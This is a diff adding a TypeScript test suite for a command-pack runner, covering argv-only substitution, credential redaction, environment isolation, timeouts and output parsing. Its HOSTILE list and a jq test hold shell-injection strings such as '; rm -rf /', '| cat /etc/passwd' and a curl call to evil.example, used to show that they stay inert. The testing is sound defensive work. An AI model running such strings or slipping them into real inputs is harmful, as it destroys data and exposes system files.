@@ -1,0 +1,348 @@
+import { execFileSync } from 'node:child_process';
+import { existsSync, mkdirSync } from 'node:fs';
+import { join } from 'node:path';
+import { fc, test } from '@fast-check/vitest';
+import { findBinary } from '@harness/test-utils';
+import { describe, expect, it } from 'vitest';
+import {
+  credentialsFrom,
+  formatIssue,
+  type PackRunOutcome,
+  runPackCommand,
+  type Workspace,
+} from '../src/index';
+import { loadOk, workDir } from './helpers';
+
+const SECRET = 'tok-Zq8d7s6f5g4h3j2k1';
+const ECHO = `[node, -e, 'process.stdout.write(JSON.stringify(process.argv.slice(1)))', --, '{{value}}']`;
+
+const ws: Workspace = await loadOk(`command_packs:
+  - id: t
+    timeout: 10s
+    credentials_ref: [gh_token]
+    env:
+      GH_TOKEN: '{{credential.gh_token}}'
+      LITERAL: '\${HOME} and $PATH'
+    commands:
+      - { id: echo, argv: ${ECHO}, effects: read, output: { parse: json } }
+      - { id: printf, argv: [printf, '%s\\0', --, '{{value}}'], effects: read }
+      - { id: bare, argv: [printf, '%s', '{{value}}'], effects: read }
+      - id: env
+        argv: [node, -e, 'process.stdout.write(JSON.stringify(process.env))']
+        effects: read
+        output: { parse: json }
+      - id: leak
+        argv: [node, -e, 'console.log("out " + process.env.GH_TOKEN); console.error("err " + process.env.GH_TOKEN)']
+        effects: read
+      - { id: fail, argv: [node, -e, 'console.error("bad things happened"); process.exit(7)'], effects: read }
+      - { id: missing, argv: [no-such-binary-xyz, '{{value}}'], effects: read }
+      - { id: json, argv: [node, -e, 'console.log(process.argv[1])', --, '{{value}}'], effects: read, output: { parse: json } }
+      - { id: lines, argv: [printf, 'a\\nb\\r\\nc\\n'], effects: read, output: { parse: lines } }
+      - { id: text, argv: [printf, 'a\\nb'], effects: read }
+      - id: typed
+        argv: [node, -e, 'process.stdout.write(JSON.stringify(process.argv.slice(1)))', '{{n}}', '{{flag}}', '{{mode}}', 'x={{ratio?}}']
+        inputs:
+          n: { type: integer, minimum: 0 }
+          flag: { type: boolean }
+          mode: { enum: [fast, slow] }
+          ratio: { type: number }
+        effects: read
+        output: { parse: json }
+      - { id: touch, argv: [node, -e, 'require("fs").writeFileSync(process.argv[1], "")', '{{file}}'], effects: write }
+      - { id: pwd, argv: [node, -e, 'process.stdout.write(process.cwd())'], effects: read }
+  - id: bounds
+    timeout: 700ms
+    max_output: 4KB
+    commands:
+      - { id: sleep, argv: [sleep, '5'], effects: read }
+      - { id: yes, argv: ['yes'], effects: read }
+      - id: stubborn
+        argv: [sh, -c, 'trap "" TERM; (trap "" TERM; exec sleep 31.4159) & sleep 31.4159; wait']
+        effects: read
+  - id: sub
+    cwd: nested/dir
+    commands:
+      - { id: pwd, argv: [node, -e, 'process.stdout.write(process.cwd())'], effects: read }
+`);
+const credentials = credentialsFrom({ gh_token: SECRET });
+
+async function outcome(
+  id: string,
+  args: Record<string, unknown> = {},
+  w: Workspace = ws,
+): Promise<PackRunOutcome> {
+  const r = await runPackCommand(w, id, args, { credentials, killGraceMs: 200 });
+  if (!r.ok) throw new Error(r.issues.map(formatIssue).join('\n'));
+  return r.outcome;
+}
+async function refused(id: string, args: unknown, opts = { credentials }): Promise<string[]> {
+  const r = await runPackCommand(ws, id, args, opts);
+  if (r.ok) throw new Error(`expected nothing to run, but ${id} ran`);
+  return r.issues.map((i) => `${i.code}: ${i.message}`);
+}
+
+const HOSTILE = [
+  '; rm -rf /',
+  '| cat /etc/passwd',
+  '$(whoami)',
+  '`id`',
+  '&& curl http://evil.example/x',
+  'a b c',
+  'line1\nline2\r\n',
+  `it's "quoted"`,
+  'back\\slash\\',
+  '*',
+  '{{filter}}',
+  '{{credential.gh_token}}',
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: a literal ${VAR} that must stay literal is the point
+  '${HOME}',
+  '> /tmp/out 2>&1',
+  '--not-a-flag',
+];
+
+describe('argv substitution is value-only (the security test)', () => {
+  it.each(HOSTILE)(
+    'CP-30 CP-31 CP-32 CP-33: %j reaches a real process as exactly one argv entry, byte for byte',
+    async (value) => {
+      const o = await outcome('t.echo', { value });
+      expect(o.status).toBe('ok');
+      expect(o.output).toEqual([value]);
+      expect(o.argv).toEqual([
+        'node',
+        '-e',
+        'process.stdout.write(JSON.stringify(process.argv.slice(1)))',
+        '--',
+        value,
+      ]);
+    },
+  );
+
+  test.prop([fc.string({ unit: 'binary', maxLength: 200 }).filter((s) => !s.includes('\0'))], {
+    numRuns: 150,
+  })('CP-33: any string without NUL reaches printf as exactly one argument (property)', async (value) => {
+    const o = await outcome('t.printf', { value });
+    expect(o.stdout).toBe(`--\0${value}\0`);
+  });
+
+  it('CP-34 CP-41: placeholder syntax inside a value is literal; a value spelling a credential reaches argv as text', async () => {
+    for (const value of ['{{filter}}', '{{credential.gh_token}}', '{credential.gh_token}']) {
+      expect((await outcome('t.echo', { value })).output).toEqual([value]);
+    }
+  });
+
+  it('CP-35: the template is frozen: a call cannot add arguments or change the executable', async () => {
+    expect(await refused('t.echo', { value: 'x', extra: '--exec' })).toMatchInlineSnapshot(`
+      [
+        "INVALID_ARGS: t.echo: argument "extra" is not an input; expected value",
+      ]
+    `);
+    const o = await outcome('t.echo', { value: 'rm' });
+    expect(o.argv[0]).toBe('node');
+    expect(o.argv).toHaveLength(5);
+  });
+
+  it('CP-36: a placeholder with no value is an error and nothing runs', async () => {
+    const file = join(workDir, 'should-not-exist');
+    expect(await refused('t.touch', {})).toMatchInlineSnapshot(`
+      [
+        "INVALID_ARGS: t.touch: argument "file" is required and missing; nothing ran",
+      ]
+    `);
+    expect(existsSync(file)).toBe(false);
+    await outcome('t.touch', { file });
+    expect(existsSync(file)).toBe(true);
+  });
+
+  it('D4: a value starting with "-" at the start of an element is refused unless a literal -- precedes it', async () => {
+    expect(await refused('t.bare', { value: '--version' })).toMatchInlineSnapshot(`
+      [
+        "RENDER_REFUSED: t.bare: argv element 2 would start with the value of value, which begins with "-" and would be read as an option; put a literal "--" element before it, or a literal prefix in the element.",
+      ]
+    `);
+    expect((await outcome('t.echo', { value: '--version' })).output).toEqual(['--version']);
+  });
+
+  it('CP-78: an absolute path is passed unchanged (packs do not confine paths)', async () => {
+    expect((await outcome('t.echo', { value: '/etc/passwd' })).output).toEqual(['/etc/passwd']);
+  });
+
+  it('typed inputs render as one element each: integers in decimal, booleans as true/false, enums as given', async () => {
+    expect((await outcome('t.typed', { n: 3, flag: false, mode: 'slow' })).output).toEqual([
+      '3',
+      'false',
+      'slow',
+      'x=',
+    ]);
+    expect((await outcome('t.typed', { n: 0, flag: true, mode: 'fast', ratio: 0.5 })).output).toEqual([
+      '0',
+      'true',
+      'fast',
+      'x=0.5',
+    ]);
+    expect(await refused('t.typed', { n: 1.5, flag: 'yes', mode: 'medium' })).toMatchInlineSnapshot(`
+      [
+        "INVALID_ARGS: t.typed: argument "n" expected an integer, found 1.5",
+        "INVALID_ARGS: t.typed: argument "flag" expected true or false, found string",
+        "INVALID_ARGS: t.typed: argument "mode" expected one of "fast", "slow"",
+      ]
+    `);
+    expect(await refused('t.typed', { n: -1, flag: true, mode: 'fast' })).toMatchInlineSnapshot(`
+      [
+        "INVALID_ARGS: t.typed: argument "n" expected at least 0",
+      ]
+    `);
+    expect(await refused('t.typed', 'n=1')).toMatchInlineSnapshot(`
+      [
+        "INVALID_ARGS: t.typed: arguments must be an object",
+      ]
+    `);
+  });
+});
+
+describe('environment and credentials', () => {
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: a literal ${VAR} that must stay literal is the point
+  it('CP-37: the environment is the pack env plus PATH, credentials substituted, ${VAR} never expanded', async () => {
+    const env = (await outcome('t.env')).output as Record<string, string>;
+    expect(Object.keys(env).sort()).toEqual(['GH_TOKEN', 'LITERAL', 'PATH']);
+    // biome-ignore lint/suspicious/noTemplateCurlyInString: a literal ${VAR} that must stay literal is the point
+    expect(env.LITERAL).toBe('${HOME} and $PATH');
+    expect(env.PATH).toBe(process.env.PATH);
+  });
+
+  it('the host chooses PATH (RunPackOptions.path), never the whole parent env', async () => {
+    const r = await runPackCommand(
+      ws,
+      't.env',
+      {},
+      { credentials, path: `/usr/bin:/bin:${process.env.PATH}` },
+    );
+    expect(r.ok && (r.outcome.output as Record<string, string>).PATH).toBe(
+      `/usr/bin:/bin:${process.env.PATH}`,
+    );
+  });
+
+  it('CP-39: a credential never appears in the argv of the process that ran', async () => {
+    const o = await outcome('t.echo', { value: 'x' });
+    expect(JSON.stringify(o.argv)).not.toContain(SECRET);
+    const env = (await outcome('t.env')).output as Record<string, string>;
+    expect(env.GH_TOKEN).toBe('[redacted]'); // it did reach the env, and was redacted on the way out
+  });
+
+  it('credential values in stdout and stderr are replaced with [redacted] before leaving the runner', async () => {
+    const o = await outcome('t.leak');
+    expect([o.stdout, o.stderr]).toEqual(['out [redacted]\n', 'err [redacted]\n']);
+  });
+
+  it('CP-40: a credential value never appears in an error, even when a call passes it as a value', async () => {
+    const issues = [
+      ...(await refused('t.missing', { value: SECRET })),
+      ...(await refused('t.bare', { value: `-${SECRET}` })),
+      ...(await refused('t.typed', { n: SECRET, flag: SECRET, mode: SECRET })),
+    ];
+    expect(issues).toHaveLength(5);
+    expect(JSON.stringify(issues)).not.toContain(SECRET);
+  });
+
+  it('CP-42: a credential missing from the source at run time is an error, never an empty string; nothing runs', async () => {
+    expect(await refused('t.env', {}, { credentials: credentialsFrom({}) })).toMatchInlineSnapshot(`
+      [
+        "CREDENTIAL_UNAVAILABLE: t.env: credential "gh_token" has no value in the credential source; nothing ran (a credential is never replaced by an empty string)",
+      ]
+    `);
+  });
+});
+
+describe('bounds', () => {
+  it('CP-47: a command past its timeout is killed and the call fails', async () => {
+    const o = await outcome('bounds.sleep');
+    expect([o.ok, o.status, o.timedOut]).toEqual([false, 'timed_out', true]);
+    expect(o.message).toMatchInlineSnapshot(`"bounds.sleep ran past its timeout of 700ms and was killed"`);
+  });
+
+  it('CP-47: a process tree that ignores SIGTERM is gone after the timeout (checked with ps)', async () => {
+    const o = await outcome('bounds.stubborn');
+    expect(o.status).toBe('timed_out');
+    const ps = execFileSync('ps', ['-eo', 'args'], { encoding: 'utf8' });
+    expect(ps.split('\n').filter((l) => l.includes('sleep 31.4159'))).toEqual([]);
+  });
+
+  it('CP-48: output past the ceiling fails the command (killed, not truncated silently)', async () => {
+    const o = await outcome('bounds.yes');
+    expect([o.ok, o.status, o.outputExceeded]).toEqual([false, 'output_exceeded', true]);
+    expect(o.stdout.length).toBeLessThanOrEqual(4000 + 200);
+    expect(o.message).toMatchInlineSnapshot(
+      `"bounds.yes wrote more than 4000 bytes of output (the pack's max_output) and was killed"`,
+    );
+  });
+
+  it('CP-49: a nonzero exit is reported with the stderr', async () => {
+    const o = await outcome('t.fail');
+    expect([o.status, o.exitCode, o.stderr]).toEqual(['exit_nonzero', 7, 'bad things happened\n']);
+    expect(o.message).toMatchInlineSnapshot(`"t.fail exited with code 7: bad things happened"`);
+  });
+
+  it('CP-50: a missing executable is reported by name and nothing runs', async () => {
+    expect(await refused('t.missing', { value: 'x' })).toMatchInlineSnapshot(`
+      [
+        "SPAWN_FAILED: t.missing: executable "no-such-binary-xyz" was not found on PATH; install it or fix the pack's argv",
+      ]
+    `);
+  });
+
+  it('the cancel signal kills the run', async () => {
+    const ac = new AbortController();
+    setTimeout(() => ac.abort(), 100);
+    const r = await runPackCommand(ws, 'bounds.sleep', {}, { signal: ac.signal, killGraceMs: 100 });
+    expect(r.ok && r.outcome.status).toBe('cancelled');
+  });
+});
+
+describe('output parsing', () => {
+  it('CP-57: parse json returns stdout parsed', async () => {
+    expect((await outcome('t.json', { value: '{"a":[1,2]}' })).output).toEqual({ a: [1, 2] });
+  });
+
+  it('CP-58: invalid json is a clear failure that keeps the raw output', async () => {
+    const o = await outcome('t.json', { value: 'not json' });
+    expect([o.ok, o.status, o.stdout, o.output]).toEqual([false, 'parse_failed', 'not json\n', undefined]);
+    expect(o.parseError).toMatch(/^stdout is not valid JSON/);
+  });
+
+  it('CP-59: parse lines splits stdout into lines; no output declaration returns the raw text', async () => {
+    expect((await outcome('t.lines')).output).toEqual(['a', 'b', 'c']);
+    expect((await outcome('t.text')).output).toBe('a\nb');
+  });
+});
+
+describe('working directory', () => {
+  it('runs in the workspace file directory, or the pack cwd resolved against it', async () => {
+    expect((await outcome('t.pwd')).stdout).toBe(workDir);
+    mkdirSync(join(workDir, 'nested', 'dir'), { recursive: true });
+    expect((await outcome('sub.pwd')).stdout).toBe(join(workDir, 'nested', 'dir'));
+  });
+
+  it('CP-28: an unknown command names it and lists what exists', async () => {
+    expect(await refused('t.nope', {})).toMatchInlineSnapshot(`
+      [
+        "UNKNOWN_COMMAND: unknown command "t.nope": pack "t" has the commands t.echo, t.printf, t.bare, t.env, t.leak, t.fail, t.missing, t.json, t.lines, t.text, t.typed, t.touch, t.pwd",
+      ]
+    `);
+  });
+});
+
+describe.skipIf(!findBinary('jq'))('with jq installed', () => {
+  it('CP-86: "; rm -rf /" as a jq filter is an ordinary jq error', async () => {
+    const w = await loadOk(`command_packs:
+  - id: json-tools
+    commands:
+      - { id: query, argv: [jq, '{{filter}}', '{{file}}'], effects: read, output: { parse: json } }
+`);
+    const { writeFileSync } = await import('node:fs');
+    writeFileSync(join(workDir, 'p.json'), '[{"name":"Ada"}]');
+    const o = await outcome('json-tools.query', { filter: '; rm -rf /', file: 'p.json' }, w);
+    expect(o.status).toBe('exit_nonzero');
+    expect(o.exitCode).toBe(3);
+    expect(o.stderr).toContain('syntax error');
+    expect(existsSync(join(workDir, 'p.json'))).toBe(true);
+  });
+});
